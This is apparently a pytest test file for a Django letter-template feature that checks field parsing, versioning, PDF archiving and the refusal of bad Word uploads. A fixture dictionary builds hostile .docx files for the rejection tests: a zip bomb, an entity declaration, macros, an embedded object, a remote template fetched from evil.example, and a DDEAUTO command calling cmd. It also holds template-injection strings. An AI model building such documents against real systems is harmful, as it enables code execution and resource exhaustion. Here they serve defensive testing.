"""Letter templates: what a Word document may hold, what is refused and why, and letters that are written with one."""

import io
import zipfile
from collections.abc import Callable
from typing import Any

import pytest
from django.core.files.base import ContentFile
from django.test import Client
from django.urls import reverse
from docx import Document
from docx.enum.text import WD_ALIGN_PARAGRAPH
from pypdf import PdfReader

from shouhou.accounts.models import Staff
from shouhou.core.errors import Refusal
from shouhou.documents.contents import CannotKeepFile
from shouhou.documents.word import CannotReadTemplate, fields_of, fill_blocks, joined, read_word, texts_of
from shouhou.followups.codes import LetterKind
from shouhou.followups.letter_fields import lacks, unknown
from shouhou.followups.letter_paper import word_of
from shouhou.followups.models import Letter, LetterTemplate
from shouhou.followups.templating import (
    CannotKeepTemplate,
    end_template,
    find_template,
    keep_template,
    templates_in_force,
)
from tests.followups.conftest import NOW
from tests.followups.test_letters import send
from tests.world import World, actor, make_customer

type Enter = Callable[[Staff], Client]


def word(*paragraphs: str, change: Callable[[Any], None] = lambda document: None) -> bytes:
    """A Word document of these paragraphs."""
    document = Document()
    for text in paragraphs:
        document.add_paragraph(text)
    change(document)
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def with_part(content: bytes, name: str, change: Callable[[bytes], bytes]) -> bytes:
    """The same document with one part changed, or added where there was none."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(content)) as old, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new:
        for part in old.infolist():
            if part.filename != name:
                new.writestr(part, old.read(part))
        new.writestr(name, change(old.read(name) if name in old.namelist() else b""))
    return out.getvalue()


def keep(world: World, content: bytes, *, name: str = "答复", kind: str = "REPLY") -> LetterTemplate:
    """An office worker keeps a template."""
    upload = ContentFile(content, name="答复函.docx")
    return keep_template(name=name, kind=kind, upload=upload, by=actor(world.agent), at=NOW)


def text_of(letter: Letter) -> str:
    """What the archived copy says."""
    assert letter.copy is not None
    from django.core.files.storage import default_storage

    with default_storage.open(letter.copy.path) as file:
        pages = PdfReader(io.BytesIO(file.read())).pages
        return "".join("".join(page.extract_text().split()) for page in pages)


def test_a_template_is_kept_with_version_date_and_person(world: World) -> None:
    first = keep(world, word("致{{客户名称}}：", "{{正文}}"))
    second = keep(world, word("致 {{ 客户名称 }}：", "您好。{{正文}}"))
    assert (first.version, second.version, second.kept_by) == (1, 2, world.agent)
    first.refresh_from_db()
    assert first.ended_at == NOW
    mine = [one.name for one in templates_in_force() if one.row]
    assert mine == ["答复 V2"]
    end_template(template_id=second.pk, by=actor(world.agent), at=NOW)
    assert not [one for one in templates_in_force() if one.row]


def test_headings_bold_alignment_and_tables_come_through() -> None:
    def change(document: Any) -> None:
        document.add_heading("标题", 1).alignment = WD_ALIGN_PARAGRAPH.CENTER
        document.add_paragraph().add_run("{{联系人}}").bold = True
        table = document.add_table(1, 2)
        table.rows[0].cells[0].text, table.rows[0].cells[1].text = "电话", "{{公司电话}}"

    blocks = read_word(io.BytesIO(word("正文", change=change)), "a.docx")
    plain, heading, bold, table = blocks
    assert (heading.heading, heading.align) == (1, "center")
    assert bold.pieces[0].bold
    assert not plain.pieces[0].bold
    assert fields_of(blocks) == ["联系人", "公司电话"]
    filled = fill_blocks(blocks, {"公司电话": "0531-1"})
    assert list(texts_of(filled))[-1] == "0531-1"
    assert table.rows


def test_a_field_that_word_has_cut_into_pieces_is_still_one() -> None:
    assert joined(["致{{客", "户名", "称}}：", "好"]) == ["致{{客户名称}}", "", "：", "好"]

    def change(document: Any) -> None:
        paragraph = document.add_paragraph()
        for piece in ("尊敬的{", "{客户", "名称}", "}："):
            paragraph.add_run(piece)

    blocks = read_word(io.BytesIO(word(change=change)), "a.docx")
    assert fields_of(blocks) == ["客户名称"]


def test_a_field_that_there_is_not_is_named_with_the_nearest(world: World) -> None:
    with pytest.raises(CannotKeepTemplate) as refusal:
        keep(world, word("致{{客户名字}}", "{{foo()}}"))
    assert "客户名字" in str(refusal.value.sentence)
    assert "客户名称" in str(refusal.value.sentence)
    assert "foo()" in str(refusal.value.sentence)
    assert unknown(["公司名"]) == [("公司名", "公司名称")]
    assert not LetterTemplate.objects.exists()


@pytest.mark.parametrize("text", ["致{{客户名称", "致客户名称}}", "{{客户名称}"])
def test_a_field_that_is_not_closed_is_refused(world: World, text: str) -> None:
    with pytest.raises(CannotKeepTemplate):
        keep(world, word(text))


@pytest.mark.parametrize(
    "text", ["{{ 7*7 }}", "{{客户名称.__class__}}", "{% for x in y %}{{客户名称}}", "{{''.join}}"]
)
def test_nothing_in_a_template_is_carried_out(world: World, text: str) -> None:
    if "{%" in text:
        blocks = fill_blocks(read_word(io.BytesIO(word(text)), "a.docx"), {"客户名称": "青山"})
        assert list(texts_of(blocks)) == ["{% for x in y %}青山"]
    else:
        with pytest.raises(CannotKeepTemplate):
            keep(world, word(text))


def test_what_a_field_comes_to_is_not_read_for_fields_again(world: World) -> None:
    blocks = fill_blocks(read_word(io.BytesIO(word("{{客户名称}}")), "a.docx"), {"客户名称": "{{正文}}"})
    assert list(texts_of(blocks)) == ["{{正文}}"]


@pytest.mark.parametrize("kind", ["NOTICE", "INVITATION"])
def test_a_notice_says_who_writes_how_to_reach_him_and_how_to_refuse(world: World, kind: str) -> None:
    with pytest.raises(CannotKeepTemplate) as refusal:
        keep(world, word("{{正文}}", "{{公司名称}}"), kind=kind)
    assert refusal.value.clause == "CP-05"
    assert "{{公司电话}}" in str(refusal.value.sentence)
    assert "{{拒收方式}}" in str(refusal.value.sentence)
    keep(world, word("{{正文}}", "{{公司名称}} {{公司电话}}", "{{拒收方式}}"), kind=kind)


def test_the_letters_that_come_with_the_system_keep_the_same_rules() -> None:
    for kind in LetterKind:
        found = find_template(kind.value)
        assert found is not None
        assert not unknown(found.fields)
        assert not lacks(kind, found.fields)


BIG = b"<w:p/>" * 2_000_000
HOSTILE: dict[str, Callable[[bytes], bytes]] = {
    "a picture": lambda raw: b"\x89PNG\r\n\x1a\n" + b"0" * 500,
    "no archive": lambda raw: b"PK\x03\x04" + b"0" * 500,
    "cut off": lambda raw: raw[: len(raw) // 2],
    "a bomb": lambda raw: with_part(raw, "word/document.xml", lambda old: old + b" " * 250_000_000),
    "one huge part": lambda raw: with_part(raw, "word/document.xml", lambda old: old + BIG),
    "macros": lambda raw: with_part(raw, "word/vbaProject.bin", lambda old: b"x"),
    "an entity": lambda raw: with_part(
        raw,
        "word/document.xml",
        lambda old: old.replace(b"<w:document", b'<!DOCTYPE x [<!ENTITY a "b">]><w:document', 1),
    ),
    "another encoding": lambda raw: with_part(
        raw, "word/document.xml", lambda old: b'<?xml version="1.0" encoding="UTF-16"?>' + old
    ),
    "a template from elsewhere": lambda raw: with_part(
        raw,
        "word/_rels/settings.xml.rels",
        lambda old: (
            b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            b'<Relationship Id="rId1" Type="http://x/attachedTemplate" Target="http://evil.example/x.dotm" '
            b'TargetMode="External"/></Relationships>'
        ),
    ),
    "an embedded object": lambda raw: with_part(raw, "word/embeddings/oleObject1.bin", lambda old: b"x"),
    "a command": lambda raw: with_part(
        raw,
        "word/document.xml",
        lambda old: old.replace(
            b"<w:sectPr", b"<w:p><w:r><w:instrText>DDEAUTO c:\\cmd</w:instrText></w:r></w:p><w:sectPr", 1
        ),
    ),
    "no XML": lambda raw: with_part(raw, "word/document.xml", lambda old: b"<w:document"),
}


@pytest.mark.parametrize("kind", HOSTILE)
def test_a_hostile_document_is_refused_and_nothing_is_kept(world: World, kind: str) -> None:
    with pytest.raises(CannotKeepFile):
        keep(world, HOSTILE[kind](word("{{正文}}")))
    assert not LetterTemplate.objects.exists()


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("旧版.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600),
        ("通知.docx", b""),
        ("通知.docx", b"hello"),
        ("setup.exe", b"MZ\x90\0"),
    ],
)
def test_another_kind_of_file_is_refused_with_what_to_do(world: World, name: str, content: bytes) -> None:
    with pytest.raises(CannotKeepFile) as refused:
        keep_template(
            name="通知",
            kind="OTHER",
            upload=ContentFile(content, name=name),
            by=actor(world.supervisor),
            at=NOW,
        )
    assert f"“{name}” is no Word document (.docx)" in refused.value.sentence
    assert "save it as .docx" in refused.value.sentence


@pytest.mark.parametrize("tag", ["ins", "drawing", "sdt", "numPr"])
def test_what_would_be_lost_in_the_letter_is_refused(world: World, tag: str) -> None:
    def add(old: bytes) -> bytes:
        return old.replace(b"<w:sectPr", f"<w:p><w:{tag}/></w:p><w:sectPr".encode(), 1)

    with pytest.raises(CannotReadTemplate):
        keep(world, with_part(word("{{正文}}"), "word/document.xml", add))


def test_a_document_without_words_is_refused(world: World) -> None:
    with pytest.raises(CannotReadTemplate):
        keep(world, word("  "))


def test_a_letter_is_written_with_a_template_and_archived_as_it_reads(world: World) -> None:
    customer = make_customer(world, at=NOW)
    row = keep(world, word("关于{{主题}}的答复", "{{客户名称}}：{{正文}}", "{{公司名称}}　编号{{信函编号}}"))
    letter = send(
        world, kind="REPLY", template_code=str(row.pk), customer_id=customer.pk, customer_name=customer.name,
        subject="制动台", body="已经修好。",
    )  # fmt: skip
    said = text_of(letter)
    assert f"{customer.name}：已经修好。" in said
    assert letter.letter_no in said
    keep(world, word("新的写法"))
    letter.refresh_from_db()
    whole = "".join(p.text for p in Document(io.BytesIO(word_of(letter))).paragraphs)
    assert "关于制动台的答复" in whole, "a letter keeps the version with which it was written"


def test_each_kind_that_comes_with_the_system_becomes_paper_and_a_word_document(world: World) -> None:
    for kind in LetterKind:
        letter = send(world, kind=kind.value, template_code=kind.value, body="请查收。")
        assert "请查收。" in text_of(letter)
        assert "{{" not in text_of(letter)
        assert "请查收。" in "".join(p.text for p in Document(io.BytesIO(word_of(letter))).paragraphs)


def test_a_letter_written_freely_is_there_as_a_word_document_too(world: World, enter: Enter) -> None:
    letter = send(world)
    answer = enter(world.agent).get(reverse("followups:letter-word", args=[letter.letter_no]))
    whole = "\n".join(p.text for p in Document(io.BytesIO(answer.content)).paragraphs)
    assert "请来电约定时间。" in whole


def test_the_page_shows_a_template_with_real_data_and_the_form_keeps_what_was_typed(
    world: World, enter: Enter
) -> None:
    customer = make_customer(world, at=NOW)
    client, page = enter(world.agent), reverse("followups:template-new")
    upload = ContentFile(word("{{不存在的字段}}"), name="a.docx")
    refused = client.post(page, {"name": "年检", "kind": "REPLY", "file": upload})
    assert refused.status_code == 422
    assert "不存在的字段" in refused.content.decode()
    assert 'value="年检"' in refused.content.decode()
    good = ContentFile(word("{{客户名称}}{{正文}}"), name="a.docx")
    kept = client.post(page, {"name": "年检", "kind": "REPLY", "file": good})
    assert kept.status_code == 303
    code = str(LetterTemplate.objects.get().pk)
    shown = client.get(reverse("followups:template", args=[code]), {"customer": customer.pk})
    assert customer.name in shown.content.decode()
    picture = client.get(reverse("followups:template-picture", args=[code]), {"customer": customer.pk})
    assert picture.content.startswith(b"\x89PNG")
    assert client.get(reverse("followups:template-word", args=["NOTICE"])).status_code == 200
    assert client.get(reverse("followups:template", args=["999999"])).status_code == 404
    assert client.post(reverse("followups:template-end", args=[code])).status_code == 303
    assert client.post(reverse("followups:template-end", args=["NOTICE"])).status_code == 404


def test_a_letter_is_looked_at_before_it_is_registered(world: World, enter: Enter) -> None:
    client = enter(world.agent)
    typed = {
        "kind": "NOTICE", "template_code": "NOTICE", "way": "POST", "sent_at": "2026-03-02T08:00", "preview": "1",
        "customer_name": "青山", "addressee": "刘洋", "address": "济南", "subject": "通知", "body": "请查收",
    }  # fmt: skip
    answer = client.post(reverse("followups:letter-new"), typed)
    assert answer.content.startswith(b"%PDF")
    assert not Letter.objects.exists()


def test_a_refusal_says_what_is_wrong_in_one_sentence(world: World) -> None:
    with pytest.raises(Refusal) as refusal:
        send(world, template_code="424242")
    assert refusal.value.field == "template_code"
